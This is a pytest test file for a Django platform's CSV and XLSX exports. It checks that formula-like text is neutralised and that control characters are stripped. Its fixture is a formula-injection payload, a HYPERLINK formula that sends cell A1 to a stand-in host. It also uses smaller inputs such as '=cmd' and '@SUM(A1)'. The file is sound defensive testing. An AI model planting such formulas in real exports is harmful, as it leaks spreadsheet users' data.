"""Issue 15, items 4 and 6: every CSV/XLSX the platform writes neutralises formula-like text and carries no
control character (adimarko/core/exports.py). Each export is downloaded through its real view by the role
that may have it; the text comes from the database as a user typed it (stored with `update`, as data from
before the input checks would be)."""

import csv
import io
from datetime import datetime
from unittest import mock

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from adimarko.core import exports
from adimarko.core.models import Business, Region
from incubation.audition.models.rounds import WIB
from incubation.coaching.services import mentoring
from incubation.models import Application, MentoringSession, RoundPage
from shop.models import Product
from shop.orders import services as order_services
from shop.orders.models import SellerBankAccount
from tests.factories import staff_user
from tests.incubation import coaching_factories as cf
from tests.incubation.factories import assign, jury, round_page, submitted
from tests.orders.factories import ProductFactory, buyer, place_order, qris_account
from tests.shop.factories import approved_product

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik di sini")'
FORMULA_CSV = "'" + FORMULA  # what a CSV cell must hold: the apostrophe keeps it text
CONTROL = "Kopi\x0bSirah\x0cKencong\x1f"  # PostgreSQL stores these (not NUL: see the writer tests)
CONTROL_CLEAN = "KopiSirahKencong"


def csv_rows(content: bytes) -> list[list[str]]:
    """The rows of an export: one meant for Excel starts with the byte order mark and is `;`-separated (the
    list separator of Excel set to Indonesian), the others are comma-separated."""
    text = content.decode("utf-8")
    delimiter = ";" if text.startswith(exports.BOM) else ","
    return list(csv.reader(io.StringIO(text.removeprefix(exports.BOM), newline=""), delimiter=delimiter))


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv_rows(content) for cell in row]


def assert_csv_neutralised(content: bytes):
    cells = csv_cells(content)
    assert FORMULA_CSV in cells
    assert FORMULA not in cells
    unguarded = [c for c in cells if exports.is_formula_like(c) and c[0] != "'" and not _is_number(c)]
    assert unguarded == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_neutralised(content: bytes):
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    [cell] = [cell for cell in cells if cell.value == FORMULA]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)  # text, and stays text when edited


# --- The writer itself -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "csv_cell"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # after leading whitespace too
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("'=1+1", "''=1+1"),  # so that the importer's one apostrophe comes off exactly
        ("Kopi = enak", "Kopi = enak"),
        ("100% arabika", "100% arabika"),
        ("Sambal\x00Pecel\x0b", "SambalPecel"),
        ("\x00=1+1", "'=1+1"),  # control characters go first, then the formula start is seen
    ],
)
def test_text_cells_are_neutralised_and_cleaned(text, csv_cell):
    [[cell]] = csv_rows(exports.csv_bytes([[text]], excel=True))
    assert cell == csv_cell
    assert exports.restore(cell) == exports.clean_text(text)


def test_numbers_stay_numbers_and_text_is_quoted():
    text = exports.csv_text([["nama", -2, 45000, 1.5, None, "a;=1+1"]])
    # Numbers are bare (a spreadsheet reads them as numbers), every text quoted so that no `;` splits it.
    assert text == '"nama",-2,45000,1.5,"","a;=1+1"\r\n'
    excel = exports.csv_bytes([["nama", -2, 45000, None, "a;=1+1"]], excel=True)
    # For Excel set to Indonesian: `;` between cells behind the byte order mark; a `;` in text is quoted.
    assert excel == '\ufeff"nama";-2;45000;"";"a;=1+1"\r\n'.encode()
    assert exports.csv_bytes([["nama", -2]], excel=False) == b'"nama",-2\r\n'
    content = exports.xlsx_bytes([["nama", -2, 45000, "-2"]], title="t")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [(c.value, c.data_type) for c in sheet[1]] == [("nama", "s"), (-2, "n"), (45000, "n"), ("-2", "s")]
    assert sheet["D1"].quotePrefix is True


def test_nul_and_other_controls_never_reach_a_file():
    row = ["Kopi\x00Robusta\x0b\x1b", "=\x00cmd", "\ud800", "ok\t\n\r"]
    assert csv_rows(exports.csv_bytes([row], excel=False)) == [["KopiRobusta", "'=cmd", "", "ok\t\n\r"]]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes([row], title="t"))).active
    # XML reads a bare CR as a line feed: the text survives, as a line break
    assert [c.value for c in sheet[1]] == ["KopiRobusta", "=cmd", None, "ok\t\n\n"]
    assert sheet["B1"].data_type == "s"


# --- Product export (seller dashboard and command) ---------------------------------------------------------
@pytest.fixture
def seller_product():
    item = approved_product(sku="KOPI-1", description="- 100% arabika\n- 250 g")
    Product.objects.filter(pk=item.pk).update(name=FORMULA)
    client_user = item.business.members.get()
    return item, client_user


def _product_export(client, item, user, fmt):
    client.force_login(user)
    response = client.get(reverse("seller_product_export"), {"usaha": item.business.slug, "format": fmt})
    assert response.status_code == 200
    return response


def test_product_csv_neutralises_formulas(client, seller_product):
    item, user = seller_product
    response = _product_export(client, item, user, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel reads UTF-8 with the byte order mark
    assert_csv_neutralised(response.content)
    header, row = csv_rows(response.content)
    assert row[header.index("name")] == FORMULA_CSV
    assert row[header.index("description")] == "'- 100% arabika\n- 250 g"
    assert row[header.index("price_idr")] == "45000"


def test_product_xlsx_writes_text_cells_not_formulas(client, seller_product):
    item, user = seller_product
    response = _product_export(client, item, user, "xlsx")
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert_xlsx_neutralised(response.content)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = sheet[2]
    assert row[header.index("description")].value == "- 100% arabika\n- 250 g"
    assert row[header.index("description")].quotePrefix is True
    assert (row[header.index("price_idr")].value, row[header.index("price_idr")].data_type) == (45000, "n")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_product_export_with_control_characters_is_no_500(client, seller_product, fmt):
    item, user = seller_product
    Product.objects.filter(pk=item.pk).update(name=CONTROL, description="Baris\x0bdua\x0c")
    response = _product_export(client, item, user, fmt)
    if fmt == "csv":
        header, row = csv_rows(response.content)
        values = dict(zip(header, row, strict=True))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        values = {h.value: c.value for h, c in zip(sheet[1], sheet[2], strict=True)}
    assert (values["name"], values["description"]) == (CONTROL_CLEAN, "Barisdua")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_command_neutralises_too(tmp_path, seller_product, suffix):
    item, _user = seller_product
    path = tmp_path / f"semua.{suffix}"
    call_command("export_products", str(path), stdout=io.StringIO())
    if suffix == "csv":
        assert_csv_neutralised(path.read_bytes())
    else:
        assert_xlsx_neutralised(path.read_bytes())


# --- Audition exports: staff and jury ---------------------------------------------------------------------
@pytest.fixture
def audition():
    round = round_page(blind_review=False)
    application = submitted(round=round)
    juror = jury()
    assign(application, juror)
    Business.objects.filter(pk=application.business_id).update(name=FORMULA)
    Application.objects.filter(pk=application.pk).update(product_name="@SUM(A1)", owner_name="+62 Siti")
    return round, application, juror


def test_staff_audition_csv_neutralises_formulas(client, audition):
    round, application, _juror = audition
    client.force_login(staff_user())
    response = client.get(reverse("staff_audition_export", args=[round.pk]))
    assert response.status_code == 200
    assert_csv_neutralised(response.content)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert (rows[0]["business"], rows[0]["product"], rows[0]["owner_name"]) == (
        FORMULA_CSV,
        "'@SUM(A1)",
        "'+62 Siti",
    )


@pytest.mark.parametrize("blind", [False, True])
def test_jury_csv_neutralises_formulas(client, audition, blind):
    round, application, juror = audition
    RoundPage.objects.filter(pk=round.pk).update(blind_review=blind)
    client.force_login(juror)
    response = client.get(reverse("jury_export", args=[round.pk]))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["product"] == "'@SUM(A1)"
    if blind:
        assert "business" not in rows[0] and FORMULA not in response.content.decode()
    else:
        assert_csv_neutralised(response.content)
        assert rows[0]["business"] == FORMULA_CSV


def test_audition_csv_with_control_characters_is_clean(client, audition):
    round, application, _juror = audition
    Business.objects.filter(pk=application.business_id).update(name=CONTROL)
    client.force_login(staff_user())
    response = client.get(reverse("staff_audition_export", args=[round.pk]))
    assert next(csv.DictReader(io.StringIO(response.content.decode())))["business"] == CONTROL_CLEAN


# --- Payout CSV -------------------------------------------------------------------------------------------
@pytest.fixture
def payout_batch():
    qris_account()
    product = ProductFactory(price=40000, stock=10)
    staff = staff_user()
    order = place_order(user=buyer(), items=[(product, 1)])
    order_services.qris_payment_confirm(order=order, by=staff)
    order_services.bank_account_save(
        business=product.business, bank_name="BRI", account_number="0123 0100 1234 567", account_holder="Siti"
    )
    batch = order_services.payout_batch_create(by=staff)
    return batch, product.business, staff


def test_payout_csv_neutralises_formulas(client, payout_batch):
    batch, business, staff = payout_batch
    Business.objects.filter(pk=business.pk).update(name=FORMULA)
    SellerBankAccount.objects.filter(business=business).update(account_holder="-Siti")
    client.force_login(staff)
    response = client.get(reverse("orders:staff_payout_csv", args=[batch.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="payout-{batch.pk}.csv"'
    assert_csv_neutralised(response.content)
    header, row = csv_rows(response.content)
    assert header == ["bank", "account_number", "account_holder", "amount_idr", "seller", "reference"]
    assert row[2:5] == ["'-Siti", str(batch.total), FORMULA_CSV]


def test_payout_csv_with_control_characters_is_clean(client, payout_batch):
    batch, business, staff = payout_batch
    Business.objects.filter(pk=business.pk).update(name=CONTROL)
    client.force_login(staff)
    response = client.get(reverse("orders:staff_payout_csv", args=[batch.pk]))
    assert csv_rows(response.content)[1][4] == CONTROL_CLEAN


# --- Attendance CSV ---------------------------------------------------------------------------------------
@pytest.fixture
def attendance():
    room = cf.Classroom(participants=1)
    session = cf.session(
        cohort=room.cohort, by=room.trainer, starts_at=datetime(2026, 7, 1, 9, tzinfo=WIB), title="Foto"
    )
    mentoring.attendance_mark(
        session=session, by=room.trainer, present={room.enrollment.pk}, now=session.ends_at
    )
    MentoringSession.objects.filter(pk=session.pk).update(title="+Sesi foto")
    return room


def _attendance_csv(client, room):
    client.force_login(room.trainer)
    with mock.patch.object(timezone, "now", return_value=datetime(2026, 8, 1, 12, tzinfo=WIB)):
        response = client.get(reverse("session_attendance_csv", args=[room.cohort.pk]))
    assert response.status_code == 200
    return response


def test_attendance_csv_neutralises_formulas(client, attendance):
    Business.objects.filter(pk=attendance.business.pk).update(name=FORMULA)
    response = _attendance_csv(client, attendance)
    assert_csv_neutralised(response.content)
    header, row = csv_rows(response.content)
    assert header[1] == "2026-07-01 09:00 +Sesi foto"  # starts with the date: nothing to neutralise
    assert row[0] == FORMULA_CSV
    assert row[-3:] == ["1", "1", "100"]


def test_attendance_csv_with_control_characters_is_clean(client, attendance):
    Business.objects.filter(pk=attendance.business.pk).update(name=CONTROL)
    assert csv_rows(_attendance_csv(client, attendance).content)[1][0] == CONTROL_CLEAN


# --- Impact exports ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_impact_exports_neutralise_formulas(client, fmt):
    Region.objects.filter(level=Region.Level.KECAMATAN, name="Wlingi").update(name=FORMULA)
    client.force_login(staff_user())
    response = client.get(reverse("impact_export", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    if fmt == "csv":
        assert_csv_neutralised(response.content)
        rows = [row for row in csv_rows(response.content) if row[5] == FORMULA_CSV]
        assert len(rows) == 7  # the kecamatan's seven measures
    else:
        assert_xlsx_neutralised(response.content)


def test_impact_xlsx_with_control_characters_in_a_filter_opens(client):
    round = round_page(title="Audisi 2027")
    RoundPage.objects.filter(pk=round.pk).update(title="Audisi\x0b2027\x1b")
    client.force_login(staff_user())
    response = client.get(reverse("impact_export", kwargs={"fmt": "xlsx"}), {"round": round.pk})
    assert response.status_code == 200
    info = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert any(str(cell.value).endswith("Audisi2027") for row in info.iter_rows() for cell in row)
